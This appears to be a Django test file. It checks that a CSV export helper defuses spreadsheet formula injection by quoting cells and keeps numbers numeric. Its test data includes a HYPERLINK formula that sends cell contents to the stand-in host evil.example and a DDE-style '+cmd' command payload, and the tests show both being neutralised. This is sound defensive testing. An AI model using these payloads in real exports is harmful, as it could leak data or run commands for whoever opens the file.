"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection),
and keep numbers numeric."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from lifecycle_app.common.csv_safe import safe_cell
from lifecycle_app.models import EvaluationExample, Project
from tests.unit.test_views_evaluation import THREE, make_evaluation


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example", "x")', '\'=HYPERLINK("http://evil.example", "x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain text", "plain text"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (-0.5, -0.5),
        (3, 3),
        (Decimal("-1.25"), Decimal("-1.25")),
        (True, True),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-4", "-1e-4"),
        ("-", "'-"),
    ],
)
def test_safe_cell_quotes_formula_starts_and_keeps_numbers(value: Any, written: Any) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize("what", ["examples", "scorecard"])
def test_a_formula_in_an_evaluation_export_is_neutralised_and_numbers_stay_numeric(
    what: str, project: Project, owner: User
) -> None:
    job, candidates = make_evaluation(
        project, owner, [{**THREE[0], "label": '=HYPERLINK("http://x")'}, *THREE[1:]]
    )
    EvaluationExample.objects.filter(candidate=candidates[0], index=0).update(
        output='=HYPERLINK("http://evil.example/?q="&A1, "Click")', input="@cmd"
    )
    client = Client()
    client.force_login(owner)

    response = client.get(
        reverse("evaluation_export", args=[project.slug, job.id]), {"what": what, "format": "csv"}
    )

    text = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    if what == "examples":
        first = rows[0]
        assert first["output"] == '\'=HYPERLINK("http://evil.example/?q="&A1, "Click")'
        assert first["input"] == "'@cmd"
        assert first["candidate"] == '\'=HYPERLINK("http://x")'
        assert first["rougeL"] == "0.1"
    else:
        assert rows[0]["label"] == '\'=HYPERLINK("http://x")'
        assert rows[2]["general_answer_match_change"] == "-0.1"
